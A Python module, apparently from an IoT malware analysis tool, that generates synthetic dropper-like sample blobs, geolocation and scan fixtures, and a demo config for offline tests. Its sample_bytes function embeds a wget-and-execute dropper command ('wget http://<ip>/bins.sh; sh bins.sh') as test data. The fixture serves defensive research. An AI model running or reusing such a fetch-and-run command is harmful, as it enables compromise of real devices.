"""Synthetic corpora and offline fixtures.

Samples are byte blobs shaped like IoT dropper binaries: a fetch command
naming the dropzone, a comma-separated target list, sometimes a masked
network, all separated by NUL padding and random binary noise.

    python -m iotatlas.synth DIR    # writes a runnable demo project into DIR
"""

from __future__ import annotations

import csv
import json
import random
import sys
from dataclasses import dataclass, field
from pathlib import Path

import yaml

from .extract import DEFAULT_POLICY, ExtractionPolicy, MalwareSample, Role, RoleManifest
from .ipspace import Prefix, int_to_ip


def public_addresses(rng: random.Random, n: int, policy: ExtractionPolicy = DEFAULT_POLICY,
                     exclude: set[int] | None = None) -> list[int]:
    """``n`` distinct addresses outside the policy's bogon ranges."""
    seen = set(exclude or ())
    out = []
    while len(out) < n:
        a = rng.getrandbits(32)
        if a in seen or policy.is_bogon(a):
            continue
        seen.add(a)
        out.append(a)
    return out


def _noise(rng: random.Random, n: int) -> bytes:
    # high bytes only, so noise never forms digits, dots or letters
    return bytes(rng.randrange(0x80, 0x100) for _ in range(n))


def sample_bytes(rng: random.Random, tag: str, dropzones=(), targets=(), masked=(), extra: bytes = b"") -> bytes:
    parts = [b"\x7fELF" + _noise(rng, 12), f"\x00{tag}\x00".encode()]
    for dz in dropzones:
        parts.append(f"\x00cd /tmp || cd /var/run; wget http://{int_to_ip(dz)}/bins.sh; sh bins.sh\x00".encode())
        parts.append(_noise(rng, 8))
    if targets or masked:
        items = [int_to_ip(t) for t in targets] + list(masked)
        parts.append(b"\x00\x00" + ",".join(items).encode() + b"\x00\x00")
    parts.append(extra)
    parts.append(_noise(rng, 16))
    return b"".join(parts)


def coverage_corpus(n_samples: int = 2423, n_with_targets: int = 973, n_with_dropzones: int = 2318,
                    seed: int = 0) -> list[MalwareSample]:
    """Corpus where exactly the requested sample counts carry targets / dropzones."""
    rng = random.Random(seed)
    pool = public_addresses(rng, 4000)
    samples = []
    for i in range(n_samples):
        dzs = [rng.choice(pool)] if i < n_with_dropzones else []
        tgs = rng.sample(pool, 3) if i < n_with_targets else []
        if set(dzs) & set(tgs):
            tgs = [t for t in pool if t not in dzs][:3]
        samples.append(MalwareSample.from_bytes(sample_bytes(rng, f"sample-{i}", dzs, tgs), f"mem://{i}"))
    return samples


@dataclass
class AffinityPlan:
    samples: list[MalwareSample]
    manifest: RoleManifest
    multiplicity: dict[int, int]
    big_dropzone: int
    big_degree: int
    degrees: dict[int, int] = field(default_factory=dict)


def affinity_corpus(n_targets: int = 2200, below_fraction: float = 0.77, max_multiplicity: int = 72,
                    big_degree: int = 1265, chunk: int = 1000, seed: int = 1) -> AffinityPlan:
    """Plant a target-multiplicity profile and one high-degree dropzone.

    ``round(n_targets * below_fraction)`` targets get multiplicity 1..9, one
    gets ``max_multiplicity`` and the rest 10..60. The big dropzone lists
    ``big_degree`` targets in a single sample; every other listing comes from
    a fresh dropzone in its own sample carrying at most ``chunk`` targets.
    Lists too short to read as address lists are labelled via the manifest.
    """
    rng = random.Random(seed)
    targets = public_addresses(rng, n_targets)
    n_below = round(n_targets * below_fraction)
    mult = {}
    for i, t in enumerate(targets):
        if i < n_below:
            mult[t] = rng.randint(1, 9)
        elif i == n_below:
            mult[t] = max_multiplicity
        else:
            mult[t] = rng.randint(10, min(60, max_multiplicity - 1))
    dropzone_pool = iter(public_addresses(rng, 10_000, exclude=set(targets)))

    listings: list[tuple[int, list[int]]] = []
    big = next(dropzone_pool)
    big_set = rng.sample(targets, big_degree)
    listings.append((big, sorted(big_set)))
    remaining = {t: mult[t] - (1 if t in set(big_set) else 0) for t in targets}
    layer = 0
    while True:
        members = [t for t in targets if remaining[t] > layer]
        if not members:
            break
        for start in range(0, len(members), chunk):
            listings.append((next(dropzone_pool), members[start:start + chunk]))
        layer += 1

    samples, labels, degrees = [], {}, {}
    for i, (dz, tgs) in enumerate(listings):
        blob = sample_bytes(rng, f"affinity-{i}", [dz], tgs)
        s = MalwareSample.from_bytes(blob, f"mem://affinity/{i}")
        samples.append(s)
        degrees[dz] = len(tgs)
        if len(tgs) < DEFAULT_POLICY.list_min_hits:
            for t in tgs:
                labels[(s.sample_id, int_to_ip(t))] = Role.TARGET
    return AffinityPlan(samples, RoleManifest(labels), mult, big, big_degree, degrees)


# --- demo project -------------------------------------------------------------

_COUNTRIES = {
    "US": (39.8, -98.6), "NL": (52.1, 5.3), "FR": (46.2, 2.2), "GB": (54.0, -2.0), "IT": (42.8, 12.6),
    "VN": (14.1, 108.3), "BR": (-14.2, -51.9), "CN": (35.9, 104.2), "IN": (20.6, 78.9), "PK": (30.4, 69.3),
}
_DZ_COUNTRIES = ["US", "US", "US", "NL", "FR", "GB", "IT"]
_TG_COUNTRIES = ["VN"] * 5 + ["BR"] * 4 + ["CN"] * 3 + ["IN"] * 2 + ["PK"]


def _geo_row(rng: random.Random, address: int, country: str) -> dict:
    lat, lon = _COUNTRIES[country]
    return {"address": int_to_ip(address), "country": country, "city": f"{country}-city-{rng.randint(1, 9)}",
            "asn": rng.randint(1000, 65000), "lat": round(lat + rng.uniform(-3, 3), 4),
            "lon": round(lon + rng.uniform(-3, 3), 4)}


def demo_project(directory: str | Path, seed: int = 7, n_samples: int = 60) -> Path:
    """Write samples, fixtures and ``config.yaml`` for an offline end-to-end run.

    Returns the config path.
    """
    rng = random.Random(seed)
    root = Path(directory)
    (root / "samples").mkdir(parents=True, exist_ok=True)

    dropzones = public_addresses(rng, 7)
    targets = public_addresses(rng, 90, exclude=set(dropzones))
    # masked networks: three /8, four /16, five /24, none overlapping the endpoints' /8s
    used_slash8 = {a >> 24 for a in dropzones + targets}
    free = [o for o in range(1, 224) if o not in used_slash8 and not DEFAULT_POLICY.is_bogon(o << 24)
            and not DEFAULT_POLICY.is_bogon_prefix(Prefix(o << 24, 8))]
    rng.shuffle(free)
    masked = [Prefix(free[i] << 24, 8) for i in range(3)]
    masked += [Prefix((free[3 + i] << 24) | (rng.randrange(256) << 16), 16) for i in range(4)]
    masked += [Prefix((free[7 + i] << 24) | (rng.randrange(65536) << 8), 24) for i in range(5)]

    def masked_token(p: Prefix) -> str:
        octets = int_to_ip(p.base).split(".")
        keep = p.length // 8
        style = rng.choice(["x", "*", "%d", "cidr"])
        if style == "cidr":
            return str(p)
        return ".".join(octets[:keep] + [style] * (4 - keep))

    for i in range(n_samples):
        dz = [dropzones[i % len(dropzones)]] if i % 10 != 9 else []
        k = rng.randint(3, 12)
        # the first dropzone reaches most targets so it qualifies for the flow map
        pool = targets if dz and dz[0] == dropzones[0] else targets[: 60]
        tgs = rng.sample(pool, k) if i % 7 != 6 else []
        mk = [masked_token(masked[(i // 4) % len(masked)])] if i % 4 == 0 else []
        extra = b"\x00User-Agent: Mozilla/5.0 build 2.6.32.10.4\x00" if i % 5 == 0 else b"\x00dns 8.8.4.4\x00"
        blob = sample_bytes(rng, f"demo-{i}", dz, tgs, mk, extra)
        (root / "samples" / f"sample_{i:03d}.bin").write_bytes(blob)

    with open(root / "geo.csv", "w", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=["address", "country", "city", "asn", "lat", "lon"], lineterminator="\n")
        w.writeheader()
        for j, dz in enumerate(dropzones):
            w.writerow(_geo_row(rng, dz, _DZ_COUNTRIES[j % len(_DZ_COUNTRIES)]))
        for t in targets[:-5]:  # a few targets stay ungeolocated
            w.writerow(_geo_row(rng, t, rng.choice(_TG_COUNTRIES)))

    records = []
    for j, dz in enumerate(dropzones[:-1]):  # one dropzone unknown to the scanner
        ports = sorted({22, 80} | ({123} if j % 2 == 0 else set()) | ({443} if j % 3 == 0 else set()))
        cves = [{"id": "CVE-2014-1692", "severity": "high"}] if j < 4 else []
        cves += [{"id": "CVE-2016-6515", "cvss": 7.8}] if j < 5 else []
        records.append({"address": int_to_ip(dz), "ports": ports, "cves": cves, "device_type": None})
    for t in targets[::3]:
        records.append({"address": int_to_ip(t), "ports": sorted(rng.sample([23, 80, 2323, 7547, 8080], 2)),
                        "cves": [], "device_type": rng.choice(["router", "webcam", None])})
    # scanned hosts inside the masked networks
    profiles = [("hvac", 60, {80: 0.9, 123: 0.05, 47808: 0.5}), ("pdu", 30, {80: 0.8, 161: 0.6, 23: 0.07}),
                ("webcam", 12, {554: 1.0, 80: 0.5}), (None, 8, {22: 1.0})]
    used: set[int] = set()
    for label, count, port_use in profiles:
        for n in range(count):
            p = masked[rng.randrange(len(masked))]
            while True:
                a = p.base + rng.randrange(p.size)
                if a not in used:
                    used.add(a)
                    break
            ports = sorted(port for port, share in port_use.items() if n < round(share * count))
            records.append({"address": int_to_ip(a), "ports": ports, "cves": [], "device_type": label})
    (root / "scan.json").write_text(json.dumps({"records": records}, indent=1, sort_keys=True) + "\n")

    config = {
        "samples_dir": "samples",
        "geo_fixture": "geo.csv",
        "scan_fixture": "scan.json",
        "offline": True,
        "min_degree": 20,
        "rate_limit": 1000.0,
        "keep_pair_table": True,
    }
    path = root / "config.yaml"
    path.write_text(yaml.safe_dump(config, sort_keys=True))
    return path


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: python -m iotatlas.synth DIR")
    print(demo_project(sys.argv[1]))
